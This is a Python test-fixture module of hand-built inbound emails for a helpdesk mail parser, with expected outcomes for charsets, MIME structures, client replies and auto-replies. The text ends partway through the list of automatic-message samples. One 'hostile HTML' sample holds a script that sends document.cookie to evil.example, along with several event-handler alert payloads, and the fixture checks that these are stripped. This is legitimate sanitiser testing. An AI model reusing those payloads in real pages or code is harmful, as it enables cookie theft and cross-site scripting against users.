# ruff: noqa: RUF001 -- the corpus is written in many scripts on purpose
"""Real-shaped inbound mail, one builder per message, and what each must become.

Every message is built here, with the `email` package or by hand where a real mailer writes
something the package would not (legacy charsets, broken MIME). The people and companies
are made up; `acme.example` is Acme's mail domain, `customer@example.test` is Alex Kim of
Acme, and the messages that continue a case refer to it through the `Context`.
"""

import base64
import quopri
from collections.abc import Callable
from dataclasses import dataclass
from email.message import EmailMessage

INBOUND = "support@helpdesk.localhost"
ALEX = "Alex Kim <customer@example.test>"
DATE = "Tue, 04 Mar 2025 10:40:00 +0100"
# The smallest valid PNG and PDF: the bytes must arrive intact as attachments.
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
PDF = b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"

# What a message becomes.
NEW_CASE = "new case"
REPLY = "reply"
IGNORED = "ignored"
QUARANTINED = "quarantined"


@dataclass(frozen=True)
class Context:
    """The case a reply continues (open, owned by Dana) and a closed one, with the ids of
    the emails we sent about each."""

    case_id: int
    reference: str
    notice_id: int
    reply_address: str
    closed_case_id: int
    closed_reference: str
    closed_notice_id: int
    domain: str = "helpdesk.localhost"

    def notice(self, closed: bool = False) -> str:
        return f"<notice-{self.closed_notice_id if closed else self.notice_id}@{self.domain}>"

    def thread(self) -> str:
        return f"<case-{self.case_id}@{self.domain}>"


@dataclass(frozen=True)
class Sample:
    name: str
    build: Callable[[Context], bytes]
    outcome: str
    target: str = ""  # "open" or "closed": the case a reply or an auto-reply refers to
    title: str = ""  # a new case's title (the decoded subject)
    sender_name: str = ""  # the full name of a customer created from the From header
    says: tuple[str, ...] = ()  # words in the entry
    never: tuple[str, ...] = ()  # words that must not be in the entry (text nor HTML)
    files: tuple[tuple[str, str, bytes], ...] = ()  # name, content type, bytes it contains
    reason: str = ""  # why it waits in quarantine
    status_after: str = ""  # the target case's status afterwards

    def __str__(self) -> str:
        return self.name


# --- Building blocks ------------------------------------------------------------------------


def by_hand(headers: list[tuple[str, str]], body: bytes | str) -> bytes:
    """A message as a mailer writes it: header lines, a blank line, the body, CRLF."""
    if isinstance(body, str):
        body = body.encode("ascii")
    head = "".join(f"{name}: {value}\r\n" for name, value in headers).encode("ascii")
    return head + b"\r\n" + body.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def words(text: str, charset: str, *, q: bool = False) -> str:
    """RFC 2047 encoded words in `charset`, each short enough for a header line."""
    chunks, chunk = [], ""
    for char in text:
        if len((chunk + char).encode(charset)) > 30:
            chunks.append(chunk)
            chunk = ""
        chunk += char
    chunks.append(chunk)
    encoded = []
    for piece in chunks:
        raw = piece.encode(charset)
        if q:
            body = quopri.encodestring(raw, header=True).decode("ascii").replace("?", "=3F")
            encoded.append(f"=?{charset}?Q?{body}?=")
        else:
            encoded.append(f"=?{charset}?B?{base64.b64encode(raw).decode('ascii')}?=")
    return "\r\n ".join(encoded)


def envelope(
    name: str,
    *more: tuple[str, str],
    sender: str = ALEX,
    subject: str = "",
    to: str = INBOUND,
    **extra: str,
) -> list[tuple[str, str]]:
    """The usual headers, then `more` (name, value) pairs, then `extra` (In_Reply_To=…)."""
    headers = [
        ("From", sender),
        ("To", to),
        ("Subject", subject),
        ("Date", DATE),
        ("Message-ID", f"<{name}@mail.acme.example>"),
        ("MIME-Version", "1.0"),
    ]
    headers += more
    headers += [(key.replace("_", "-"), value) for key, value in extra.items()]
    return headers


def composed(
    name: str, *, sender: str = ALEX, subject: str = "", to: str = INBOUND, **extra: str
) -> EmailMessage:
    """An EmailMessage with the usual headers; the caller adds the content."""
    message = EmailMessage()
    for key, value in envelope(name, sender=sender, subject=subject, to=to, **extra):
        if key != "MIME-Version":
            message[key] = value
    return message


def plain(
    name: str, text: str, *, sender: str = ALEX, subject: str = "", to: str = INBOUND, **extra: str
) -> bytes:
    """A simple text message, for the tests that are about where it goes, not its shape."""
    message = composed(name, sender=sender, subject=subject, to=to, **extra)
    message.set_content(text)
    return message.as_bytes()


def legacy(
    name: str,
    *,
    charset: str,
    person: str,
    address: str,
    subject: str,
    body: str,
    cte: str,
    q: bool = False,
) -> bytes:
    """A plain-text message entirely in a legacy charset, as a local mail client writes it."""
    encoded = body.encode(charset)
    if cte == "base64":
        payload = base64.encodebytes(encoded)
    elif cte == "quoted-printable":
        payload = quopri.encodestring(encoded)
    else:
        payload = encoded
    headers = envelope(
        name,
        ("Content-Type", f"text/plain; charset={charset}"),
        ("Content-Transfer-Encoding", cte),
        sender=f"{words(person, charset, q=q)} <{address}>",
        subject=words(subject, charset, q=q),
    )
    return by_hand(headers, payload)


def charset_sample(
    name: str,
    charset: str,
    *,
    person: str,
    address: str,
    subject: str,
    body: str,
    cte: str,
    q: bool = False,
) -> Sample:
    """A stranger from acme.example writes in their own charset: a new case of Acme's."""
    return Sample(
        name,
        lambda ctx: legacy(
            name,
            charset=charset,
            person=person,
            address=address,
            subject=subject,
            body=body,
            cte=cte,
            q=q,
        ),
        NEW_CASE,
        title=subject,
        sender_name=person,
        says=(body.splitlines()[0],),
    )


# --- Structure ------------------------------------------------------------------------------


def alternative(ctx: Context) -> bytes:
    message = composed("alternative", subject="VPN drops every ten minutes")
    message.set_content("The VPN disconnects every ten minutes since this morning.\n")
    message.add_alternative(
        "<p>The VPN disconnects every <b>ten</b> minutes since this morning.</p>"
        "<p>Only in the HTML part.</p>",
        subtype="html",
    )
    return message.as_bytes()


def outlook_related(ctx: Context) -> bytes:
    """Outlook: text and HTML alternatives, the HTML with its signature logo inline."""
    message = composed("outlook-related", subject="Projector in room 4 shows no picture")
    message.set_content("The projector in room 4 shows no picture, only a blue screen.\n")
    message.add_alternative(
        "<p>The projector in room 4 shows no picture, only a blue screen.</p>"
        '<img src="cid:image001">',
        subtype="html",
    )
    html = message.get_payload()[1]
    html.add_related(
        PNG, "image", "png", cid="<image001>", disposition="inline", filename="image001.png"
    )
    return message.as_bytes()


def html_hostile(ctx: Context) -> bytes:
    message = composed("html-hostile", subject="Booking page is empty")
    message.set_content(
        "<html><head><style>p { color: red; }</style>"
        "<script>document.location='https://evil.example/?c='+document.cookie</script></head>"
        '<body onload="alert(1)"><p onclick="alert(2)">Our booking page shows an empty form'
        '<br>after step 2.</p><img src="x" onerror="alert(3)">'
        '<a href="javascript:alert(4)">details</a>'
        "<script>alert(5)</script></body></html>",
        subtype="html",
    )
    return message.as_bytes()


def html_outlook(ctx: Context) -> bytes:
    message = composed("html-outlook", subject="Meeting rooms double-booked")
    message.set_content(
        '<html><body><div class="WordSection1"><p class="MsoNormal">Hello,<o:p></o:p></p>'
        "<table><tr><td>Room 4 &amp; 5</td><td>double-booked</td></tr>"
        "<tr><td>Caf&eacute; kiosk</td><td>no network</td></tr></table>"
        '<p class="MsoNormal">Thanks,&nbsp;Alex<o:p></o:p></p></div></body></html>',
        subtype="html",
    )
    return message.as_bytes()


def photo_inline(ctx: Context) -> bytes:
    """A phone's mail app: the text, then the photo inline, in multipart/mixed."""
    message = composed("photo-inline", subject="Water under the fridge")
    message.set_content("There is water under the fridge again, photo below.\n")
    message.add_attachment(PNG, "image", "png", disposition="inline", filename="photo.png")
    return message.as_bytes()


def cid_image(ctx: Context) -> bytes:
    """HTML-only with an image known only by its Content-ID (no name, no disposition)."""
    message = composed("cid-image", subject="Error dialog")
    message.set_content('<p>This dialog appears at start-up.</p><img src="cid:shot">', "html")
    message.add_related(PNG, "image", "png", cid="<shot>")
    return message.as_bytes()


def attachments(ctx: Context) -> bytes:
    message = composed("attachments", subject="Invoice and usage for February")
    message.set_content("The February invoice does not match our usage export; both attached.\n")
    message.add_attachment(PDF, "application", "pdf", filename="invoice-2025-02.pdf")
    message.add_attachment("date,kwh\n2025-02-01,14\n", subtype="csv", filename="usage.csv")
    return message.as_bytes()


def non_ascii_filename(ctx: Context) -> bytes:
    message = composed("non-ascii-filename", subject="Inspection report")
    message.set_content("The inspection report from March is attached.\n")
    message.add_attachment(PDF, "application", "pdf", filename="Prüfbericht März.pdf")
    return message.as_bytes()


def forwarded(ctx: Context) -> bytes:
    inner = composed(
        "supplier",
        sender="Parts Desk <orders@supplier.example>",
        to="customer@example.test",
        subject="Your order 5521 has shipped",
    )
    inner.set_content("Your order 5521 (one replacement battery) has shipped.\n")
    message = composed("forwarded", subject="Fwd: Your order 5521 has shipped")
    message.set_content("Forwarding the supplier's answer: the battery is on its way.\n")
    message.add_attachment(inner)
    return message.as_bytes()


def apple_split_text(ctx: Context) -> bytes:
    """Apple Mail: the text, the photo placed inside it, and the rest of the text after it."""
    return by_hand(
        envelope(
            "apple-split",
            ("Content-Type", 'multipart/mixed; boundary="Apple-Mail=_3F2A"'),
            subject="Crack in the window",
        ),
        "--Apple-Mail=_3F2A\n"
        "Content-Transfer-Encoding: 7bit\n"
        "Content-Type: text/plain; charset=us-ascii\n\n"
        "There is a crack in the meeting room window:\n\n"
        "--Apple-Mail=_3F2A\n"
        'Content-Disposition: inline; filename="IMG_0042.png"\n'
        'Content-Type: image/png; name="IMG_0042.png"\n'
        "Content-Transfer-Encoding: base64\n\n"
        + base64.encodebytes(PNG).decode("ascii")
        + "\n--Apple-Mail=_3F2A\n"
        "Content-Transfer-Encoding: 7bit\n"
        "Content-Type: text/plain; charset=us-ascii\n\n"
        "It gets longer every day.\n"
        "--Apple-Mail=_3F2A--\n",
    )


LONG_NAME = "Quarterly-maintenance-report-building-B-" * 7 + "final.pdf"


def awkward_names(ctx: Context) -> bytes:
    """A 270-character file name, a tab and a NUL in another, a NUL in the text."""
    message = composed("awkward-names", subject="Maintenance reports")
    message.set_content("Both reports are attached.\x00\n")
    message.add_attachment(PDF, "application", "pdf", filename=LONG_NAME)
    message.add_attachment(PDF, "application", "pdf", filename="summary\t\x00.pdf")
    return message.as_bytes()


LONG_PERSON = "Facilities Team of Building B (Night Shift) " * 5


def long_display_name(ctx: Context) -> bytes:
    """A display name longer than a person's name may be here (150 characters)."""
    return by_hand(
        envelope(
            "long-display-name",
            ("Content-Type", "text/plain; charset=us-ascii"),
            sender=f'"{LONG_PERSON}" <facilities@acme.example>',
            subject="Heating",
        ),
        "The heating in building B is off.\n",
    )


def forwarded_by_subject(ctx: Context) -> bytes:
    """The attached message is named after its subject, without an extension."""
    inner = composed(
        "supplier-2",
        sender="Parts Desk <orders@supplier.example>",
        to="customer@example.test",
        subject="Battery back-ordered",
    )
    inner.set_content("The replacement battery is back-ordered until April.\n")
    message = composed("forwarded-by-subject", subject="Fwd: Battery back-ordered")
    message.set_content("See the supplier's message attached.\n")
    message.add_attachment(inner, filename="Battery back-ordered")
    return message.as_bytes()


def named_in_content_type(ctx: Context) -> bytes:
    """A scanner's mail: the attachment is named only in Content-Type, no disposition."""
    return by_hand(
        envelope(
            "named-in-content-type",
            ("Content-Type", 'multipart/mixed; boundary="scan-1"'),
            subject="Meter readings",
        ),
        "--scan-1\n"
        "Content-Type: text/plain; charset=us-ascii\n\n"
        "Meter readings for building B are attached.\n"
        "--scan-1\n"
        'Content-Type: text/csv; name="meter-readings.csv"\n\n'
        "meter,reading\nB-1,10423\n"
        "--scan-1--\n",
    )


def pgp_signed(ctx: Context) -> bytes:
    return by_hand(
        envelope(
            "pgp-signed",
            (
                "Content-Type",
                'multipart/signed; micalg=pgp-sha256; protocol="application/pgp-signature"; '
                'boundary="sig-7"',
            ),
            subject="Badge reader at the side door",
        ),
        "This is an OpenPGP/MIME signed message (RFC 4880 and 3156)\n"
        "--sig-7\n"
        "Content-Type: text/plain; charset=utf-8\n"
        "Content-Transfer-Encoding: quoted-printable\n\n"
        "The badge reader at the side door rejects every badge since 07:00.\n"
        "--sig-7\n"
        'Content-Type: application/pgp-signature; name="signature.asc"\n'
        "Content-Description: OpenPGP digital signature\n"
        'Content-Disposition: attachment; filename="signature.asc"\n\n'
        "-----BEGIN PGP SIGNATURE-----\n\niHUEARYIAB0WIQTexampleexampleexample=\n=abcd\n"
        "-----END PGP SIGNATURE-----\n"
        "--sig-7--\n",
    )


def smime_signed(ctx: Context) -> bytes:
    return by_hand(
        envelope(
            "smime-signed",
            (
                "Content-Type",
                'multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; '
                'boundary="----smime-outer"',
            ),
            subject="Audit log export",
        ),
        "This is an S/MIME signed message\n"
        "------smime-outer\n"
        'Content-Type: multipart/mixed; boundary="----smime-inner"\n\n'
        "------smime-inner\n"
        "Content-Type: text/plain; charset=utf-8\n\n"
        "The audit log export for Q1 is attached; two entries are missing.\n"
        "------smime-inner\n"
        'Content-Type: application/pdf; name="audit-q1.pdf"\n'
        "Content-Transfer-Encoding: base64\n"
        'Content-Disposition: attachment; filename="audit-q1.pdf"\n\n'
        + base64.encodebytes(PDF).decode("ascii")
        + "------smime-inner--\n"
        "------smime-outer\n"
        'Content-Type: application/pkcs7-signature; name="smime.p7s"\n'
        "Content-Transfer-Encoding: base64\n"
        'Content-Disposition: attachment; filename="smime.p7s"\n\n'
        "MIAGCSqGSIb3DQEHAqCAMIACAQExDzANBglghkgBZQMEAgEFADCABgkqhkiG9w0BBwEAAKCCAx4w\n"
        "------smime-outer--\n",
    )


# --- Broken MIME ------------------------------------------------------------------------------


def missing_end_boundary(ctx: Context) -> bytes:
    """Cut off in transit: the last part never ends, the closing boundary never comes."""
    return by_hand(
        envelope(
            "missing-end", ("Content-Type", 'multipart/mixed; boundary="cut"'), subject="Crash log"
        ),
        "--cut\n"
        "Content-Type: text/plain; charset=utf-8\n\n"
        "The app crashes when saving; the log is attached.\n"
        "--cut\n"
        'Content-Type: application/pdf; name="crash.pdf"\n'
        'Content-Disposition: attachment; filename="crash.pdf"\n'
        "Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(PDF).decode("ascii"),
    )


def bad_base64(ctx: Context) -> bytes:
    """Invalid characters and wrong padding in a base64 body."""
    good = base64.b64encode(b"The scanner on floor 2 is offline.").decode("ascii")
    return by_hand(
        envelope(
            "bad-base64",
            ("Content-Type", "text/plain; charset=utf-8"),
            ("Content-Transfer-Encoding", "base64"),
            subject="Scanner offline",
        ),
        f"{good[:20]}!!{good[20:]}=\n",
    )


def unknown_charset(ctx: Context) -> bytes:
    """A label no codec knows (utf8mb4, from a database-backed web form); UTF-8 bytes."""
    return by_hand(
        envelope(
            "unknown-charset",
            ("Content-Type", "text/plain; charset=utf8mb4"),
            ("Content-Transfer-Encoding", "8bit"),
            subject="Ventilation noise",
        ),
        "Die Lüftung im Serverraum läuft ständig auf höchster Stufe.\n".encode(),
    )


def no_boundary(ctx: Context) -> bytes:
    """multipart/mixed that never says its boundary: the words must not be lost."""
    return by_hand(
        envelope("no-boundary", ("Content-Type", "multipart/mixed"), subject="Door sensor"),
        "The door sensor in the lobby reports open all night.\n",
    )


def no_sender(ctx: Context) -> bytes:
    return by_hand(
        [
            ("To", INBOUND),
            ("Subject", "Test"),
            ("Message-ID", "<no-sender@mail.acme.example>"),
        ],
        "A message without a From header.\n",
    )


def broken_sender(ctx: Context) -> bytes:
    """`From: noreply@`: a header the standard address parser fails on."""
    return by_hand(
        envelope("broken-sender", sender="noreply@", subject="Nightly report"),
        "The nightly job finished with 3 warnings.\n",
    )


def not_mail(ctx: Context) -> bytes:
    return b"\x00\x01\x02\x89PNG\r\n\x1a\nthis is not an email message at all\xff\xfe"


# --- Replies -----------------------------------------------------------------------------------


def gmail_reply(ctx: Context) -> bytes:
    message = composed(
        "gmail-reply",
        subject=f"Re: [{ctx.reference}] Dana Lee replied: Laptop will not charge",
        In_Reply_To=ctx.notice(),
        References=f"{ctx.thread()} {ctx.notice()}",
    )
    message.set_content(
        "The BIOS update installed, but it still will not charge.\n\n"
        "On Tue, 4 Mar 2025 at 10:12, Helpdesk <support@helpdesk.localhost> wrote:\n"
        "> Hello Alex,\n>\n> Please try the BIOS update from our download page.\n"
    )
    return message.as_bytes()


def outlook_reply(ctx: Context) -> bytes:
    """Outlook's "Original Message" block; only References point to the case."""
    message = composed(
        "outlook-reply", subject="RE: Laptop will not charge", References=ctx.thread()
    )
    message.set_content(
        "The charger LED stays off with the new BIOS.\n\n"
        "-----Original Message-----\n"
        "From: Helpdesk <support@helpdesk.localhost>\n"
        "Sent: Tuesday, March 4, 2025 10:12 AM\n"
        "To: Alex Kim <customer@example.test>\n"
        "Subject: Laptop will not charge\n\n"
        "Please try the BIOS update from our download page.\n"
    )
    return message.as_bytes()


def outlook_divider_reply(ctx: Context) -> bytes:
    """New Outlook: a line of underscores, then the original's headers; the subject tag only."""
    message = composed("outlook-divider", subject=f"RE: [{ctx.reference}] Laptop will not charge")
    message.set_content(
        "I tried a second charger, same result.\n\n"
        "________________________________\n"
        "From: Helpdesk <support@helpdesk.localhost>\n"
        "Sent: Tuesday, March 4, 2025 10:12\n"
        "To: Alex Kim <customer@example.test>\n"
        f"Subject: [{ctx.reference}] Laptop will not charge\n\n"
        "Please try the BIOS update from our download page.\n"
    )
    return message.as_bytes()


def signature_reply(ctx: Context) -> bytes:
    """The signed reply address only: no threading headers, no tag."""
    message = composed("signature-reply", subject="Serial number", to=ctx.reply_address)
    message.set_content(
        "The serial number is 5CD1234XYZ.\n\n-- \nAlex Kim\nAcme Facilities\nPhone +1 555 0100\n"
    )
    return message.as_bytes()


def iphone_reply(ctx: Context) -> bytes:
    message = composed(
        "iphone-reply", subject="Re: Laptop will not charge", In_Reply_To=ctx.notice()
    )
    message.set_content(
        "Now it charges only when switched off.\n\nSent from my iPhone\n\n"
        "> On 4 Mar 2025, at 10:12, Helpdesk <support@helpdesk.localhost> wrote:\n>\n"
        "> Please try the BIOS update from our download page.\n"
    )
    return message.as_bytes()


def gmail_html_reply(ctx: Context) -> bytes:
    """HTML only; the quote is a gmail_quote blockquote, not '>' lines."""
    message = composed(
        "gmail-html-reply", subject="Re: Laptop will not charge", In_Reply_To=ctx.notice()
    )
    message.set_content(
        '<div dir="ltr">It charges again after a second restart.</div><br>'
        '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Tue, 4 Mar 2025 at '
        "10:12, Helpdesk &lt;support@helpdesk.localhost&gt; wrote:<br></div>"
        '<blockquote class="gmail_quote">Please try the BIOS update from our download '
        "page.</blockquote></div>",
        subtype="html",
    )
    return message.as_bytes()


def german_reply(ctx: Context) -> bytes:
    """A German client in ISO-8859-1, quoted-printable, "Am … schrieb …:"."""
    body = (
        "Das Netzteil wird immer noch heiß.\n\n"
        "Am Di., 4. März 2025 um 10:12 Uhr schrieb Helpdesk <support@helpdesk.localhost>:\n"
        "> Please try the BIOS update from our download page.\n"
    )
    return by_hand(
        envelope(
            "german-reply",
            ("Content-Type", "text/plain; charset=iso-8859-1"),
            ("Content-Transfer-Encoding", "quoted-printable"),
            subject=f"AW: [{ctx.reference}] {words('Laptop lädt nicht', 'iso-8859-1', q=True)}",
            In_Reply_To=ctx.notice(),
        ),
        quopri.encodestring(body.encode("iso-8859-1")),
    )


def closed_reply(ctx: Context) -> bytes:
    message = composed(
        "closed-reply",
        subject=f"Re: [{ctx.closed_reference}] Printer jams",
        In_Reply_To=ctx.notice(closed=True),
    )
    message.set_content(
        "The printer jams again since this morning.\n\n"
        "On Mon, 3 Mar 2025, Helpdesk wrote:\n> We replaced the roller.\n"
    )
    return message.as_bytes()


# --- Auto-replies and bounces -------------------------------------------------------------------


def out_of_office(ctx: Context) -> bytes:
    message = composed(
        "out-of-office",
        subject=f"Automatic reply: [{ctx.closed_reference}] Printer jams",
        In_Reply_To=ctx.notice(closed=True),
        Auto_Submitted="auto-replied",
    )
    message.set_content("I am out of the office until 10 March with limited access to email.\n")
    return message.as_bytes()


def precedence_bulk(ctx: Context) -> bytes:
    message = composed(
        "newsletter",
        sender="Vendor News <news@vendor.example>",
        subject="Our spring offers",
        Precedence="bulk",
        List_Unsubscribe="<mailto:unsubscribe@vendor.example>",
    )
    message.set_content("Spring offers on all toner cartridges.\n")
    return message.as_bytes()


def x_autoreply(ctx: Context) -> bytes:
    message = composed(
        "x-autoreply",
        subject=f"Re: [{ctx.closed_reference}] Printer jams",
        X_Autoreply="yes",
    )
    message.set_content("Thank you for your email. I will answer after my holiday.\n")
    return message.as_bytes()


def x_autorespond(ctx: Context) -> bytes:
    message = composed(
        "x-autorespond",
        subject="Auto: Laptop will not charge",
        to=ctx.reply_address,
        Precedence="auto_reply",
        X_Autorespond="Out of office",
    )
    message.set_content("I am away; for urgent matters call reception.\n")
    return message.as_bytes()


def auto_generated(ctx: Context) -> bytes:
    message = composed(
        "auto-generated",
        subject=f"[{ctx.reference}] Monitoring: battery health 40%",
        Auto_Submitted="auto-generated",
    )
    message.set_content("Battery health of device 5CD1234XYZ dropped to 40%.\n")
    return message.as_bytes()


def delivery_report(ctx: Context) -> bytes:
    """An Exchange-style DSN from MAILER-DAEMON: report, status and the original headers."""
    return by_hand(
        envelope(
            "dsn",
            ("Content-Type", 'multipart/report; report-type=delivery-status; boundary="dsn-1"'),
            sender="Mail Delivery System <MAILER-DAEMON@mail.acme.example>",
            subject=f"Undeliverable: [{ctx.closed_reference}] Printer jams",
        ),
        "--dsn-1\n"
        "Content-Type: text/plain; charset=us-ascii\n\n"
        "Your message could not be delivered to customer@example.test: mailbox full.\n"
        "--dsn-1\n"
        "Content-Type: message/delivery-status\n\n"
        "Reporting-MTA: dns; mail.acme.example\n\n"
        "Final-Recipient: rfc822; customer@example.test\n"
        "Action: failed\n"
        "Status: 5.2.2\n"
        "--dsn-1\n"
        "Content-Type: text/rfc822-headers\n\n"
        "From: Helpdesk <support@helpdesk.localhost>\n"
        f"Message-ID: {ctx.notice(closed=True)}\n"
        f"Subject: [{ctx.closed_reference}] Printer jams\n"
        "--dsn-1--\n",
    )


# --- The corpus ----------------------------------------------------------------------------------

CHARSETS = [
    charset_sample(
        "utf-8",
        "utf-8",
        person="Zoë Ångström",
        address="zoe@acme.example",
        subject="Écran noir après la mise à jour ✔",
        body="L'écran reste noir après la mise à jour du pilote.\nMerci — Zoë\n",
        cte="quoted-printable",
    ),
    charset_sample(
        "iso-8859-1",
        "iso-8859-1",
        person="Jürgen Weiß",
        address="juergen@acme.example",
        subject="Drucker im Büro druckt leere Seiten",
        body="Der Drucker im 3. Stock druckt nur noch leere Seiten.\nGrüße aus München\n",
        cte="quoted-printable",
        q=True,
    ),
    charset_sample(
        "iso-8859-15",
        "iso-8859-15",
        person="Chloé Lœw",
        address="chloe@acme.example",
        subject="Facture de 250 € débitée deux fois",
        body="La facture n° 4711 de 250 € a été débitée deux fois.\nCordialement\n",
        cte="8bit",
        q=True,
    ),
    charset_sample(
        "windows-1252",
        "windows-1252",
        person="Seán O’Brien",
        address="sean@acme.example",
        subject="Invoice “INV-2291” charged twice – €80",
        body="The invoice “INV-2291” was charged twice… please refund the €80.\n",
        cte="8bit",
        q=True,
    ),
    charset_sample(
        "koi8-r",
        "koi8-r",
        person="Иван Петров",
        address="ivan@acme.example",
        subject="Принтер не печатает",
        body="Принтер в бухгалтерии не печатает с понедельника.\nСпасибо!\n",
        cte="8bit",
    ),
    charset_sample(
        "shift_jis",
        "shift_jis",
        person="山田 太郎",
        address="yamada@acme.example",
        subject="プリンターが動きません",
        body="経理部のプリンターが月曜日から動きません。\nよろしくお願いします。\n",
        cte="base64",
    ),
    charset_sample(
        "gb2312",
        "gb2312",
        person="王伟",
        address="wang@acme.example",
        subject="打印机无法工作",
        body="财务部的打印机从星期一开始无法工作。\n谢谢\n",
        cte="base64",
    ),
    charset_sample(
        "big5",
        "big5",
        person="陳美玲",
        address="chen@acme-mail.example",
        subject="印表機無法列印",
        body="會計部的印表機從星期一開始無法列印。\n謝謝\n",
        cte="base64",
    ),
    charset_sample(
        "iso-2022-jp",
        "iso-2022-jp",
        person="佐藤 花子",
        address="sato@acme.example",
        subject="メールが届きません",
        body="昨日からメールが届きません。\n",
        cte="7bit",
    ),
]

STRUCTURE = [
    Sample(
        "multipart-alternative",
        alternative,
        NEW_CASE,
        title="VPN drops every ten minutes",
        says=("The VPN disconnects every ten minutes since this morning.",),
        never=("Only in the HTML part",),
    ),
    Sample(
        "outlook-alternative-related",
        outlook_related,
        NEW_CASE,
        title="Projector in room 4 shows no picture",
        says=("only a blue screen",),
        files=(("image001.png", "image/png", PNG),),
    ),
    Sample(
        "html-only-hostile",
        html_hostile,
        NEW_CASE,
        title="Booking page is empty",
        says=("Our booking page shows an empty form", "after step 2", "details"),
        never=("<script", "alert(", "onload", "onclick", "onerror", "javascript:", "color: red"),
    ),
    Sample(
        "html-only-outlook",
        html_outlook,
        NEW_CASE,
        title="Meeting rooms double-booked",
        says=("Room 4 & 5 double-booked", "Café kiosk no network", "Thanks, Alex"),
        never=("MsoNormal", "<o:p>", "&nbsp;"),
    ),
    Sample(
        "inline-photo",
        photo_inline,
        NEW_CASE,
        says=("water under the fridge",),
        files=(("photo.png", "image/png", PNG),),
    ),
    Sample(
        "inline-image-by-content-id",
        cid_image,
        NEW_CASE,
        says=("This dialog appears at start-up.",),
        files=(("attachment.png", "image/png", PNG),),
    ),
    Sample(
        "attachments",
        attachments,
        NEW_CASE,
        says=("does not match our usage export",),
        files=(
            ("invoice-2025-02.pdf", "application/pdf", PDF),
            ("usage.csv", "text/csv", b"2025-02-01,14"),
        ),
    ),
    Sample(
        "attachment-with-non-ascii-name",
        non_ascii_filename,
        NEW_CASE,
        says=("inspection report",),
        files=(("Prüfbericht März.pdf", "application/pdf", PDF),),
    ),
    Sample(
        "forwarded-message",
        forwarded,
        NEW_CASE,
        title="Fwd: Your order 5521 has shipped",
        says=("the battery is on its way",),
        files=(
            ("forwarded-message.eml", "message/rfc822", b"Subject: Your order 5521 has shipped"),
        ),
    ),
    Sample(
        "forwarded-message-named-by-subject",
        forwarded_by_subject,
        NEW_CASE,
        says=("See the supplier's message attached.",),
        never=("back-ordered until April",),
        files=(
            (
                "Battery back-ordered.eml",
                "message/rfc822",
                b"The replacement battery is back-ordered until April.",
            ),
        ),
    ),
    Sample(
        "attachment-named-only-in-content-type",
        named_in_content_type,
        NEW_CASE,
        says=("Meter readings for building B",),
        never=("B-1,10423",),
        files=(("meter-readings.csv", "text/csv", b"B-1,10423"),),
    ),
    Sample(
        "apple-mail-text-split-by-a-photo",
        apple_split_text,
        NEW_CASE,
        says=("crack in the meeting room window:\n\nIt gets longer every day.",),
        files=(("IMG_0042.png", "image/png", PNG),),
    ),
    Sample(
        "awkward-file-names-and-nul",
        awkward_names,
        NEW_CASE,
        says=("Both reports are attached.",),
        never=("\x00",),
        files=(
            (LONG_NAME[:196] + ".pdf", "application/pdf", PDF),  # 200 characters
            ("summary.pdf", "application/pdf", PDF),
        ),
    ),
    Sample(
        "long-display-name",
        long_display_name,
        NEW_CASE,
        sender_name=LONG_PERSON[:150],
        says=("The heating in building B is off.",),
    ),
    Sample(
        "pgp-signed",
        pgp_signed,
        NEW_CASE,
        says=("rejects every badge since 07:00",),
        never=("BEGIN PGP SIGNATURE", "OpenPGP/MIME"),
    ),
    Sample(
        "smime-signed",
        smime_signed,
        NEW_CASE,
        says=("two entries are missing",),
        files=(("audit-q1.pdf", "application/pdf", PDF),),
    ),
]

BROKEN = [
    Sample(
        "missing-end-boundary",
        missing_end_boundary,
        NEW_CASE,
        says=("The app crashes when saving",),
        files=(("crash.pdf", "application/pdf", PDF),),
    ),
    Sample("bad-base64", bad_base64, NEW_CASE, says=("scanner on floor 2",)),
    Sample("unknown-charset-label", unknown_charset, NEW_CASE, says=("Die Lüftung im Serverraum",)),
    Sample("multipart-without-boundary", no_boundary, NEW_CASE, says=("door sensor in the lobby",)),
    Sample("no-sender", no_sender, QUARANTINED, reason="No usable sender address"),
    Sample("unparseable-sender", broken_sender, QUARANTINED, reason="No usable sender address"),
    Sample("not-an-email", not_mail, QUARANTINED, reason="No usable sender address"),
]

REPLIES = [
    Sample(
        "gmail-reply-on-wrote",
        gmail_reply,
        REPLY,
        target="open",
        says=("The BIOS update installed, but it still will not charge.",),
        never=("wrote:", "Please try the BIOS update", "Hello Alex"),
        status_after="open",
    ),
    Sample(
        "outlook-original-message",
        outlook_reply,
        REPLY,
        target="open",
        says=("The charger LED stays off with the new BIOS.",),
        never=("Original Message", "Please try the BIOS update", "Sent:"),
        status_after="open",
    ),
    Sample(
        "outlook-underscore-divider",
        outlook_divider_reply,
        REPLY,
        target="open",
        says=("I tried a second charger, same result.",),
        never=("____", "Please try the BIOS update", "From: Helpdesk"),
        status_after="open",
    ),
    Sample(
        "signature-stripped",
        signature_reply,
        REPLY,
        target="open",
        says=("The serial number is 5CD1234XYZ.",),
        never=("Acme Facilities", "+1 555 0100"),
        status_after="open",
    ),
    Sample(
        "iphone-reply",
        iphone_reply,
        REPLY,
        target="open",
        says=("Now it charges only when switched off.",),
        never=("Sent from my iPhone", "Please try the BIOS update"),
        status_after="open",
    ),
    Sample(
        "gmail-html-only-reply",
        gmail_html_reply,
        REPLY,
        target="open",
        says=("It charges again after a second restart.",),
        never=("Please try the BIOS update", "gmail_quote"),
        status_after="open",
    ),
    Sample(
        "german-reply-latin-1",
        german_reply,
        REPLY,
        target="open",
        says=("Das Netzteil wird immer noch heiß.",),
        never=("schrieb", "Please try the BIOS update"),
        status_after="open",
    ),
    Sample(
        "reply-reopens-closed-case",
        closed_reply,
        REPLY,
        target="closed",
        says=("The printer jams again since this morning.",),
        never=("We replaced the roller",),
        status_after="open",
    ),
]

AUTOMATIC = [
    Sample(
        "out-of-office-auto-submitted",
        out_of_office,
        IGNORED,
        target="closed",
        status_after="closed",
    ),
    Sample("precedence-bulk", precedence_bulk, IGNORED),
    Sample("x-autoreply", x_autoreply, IGNORED, target="closed", status_after="closed"),
    Sample(
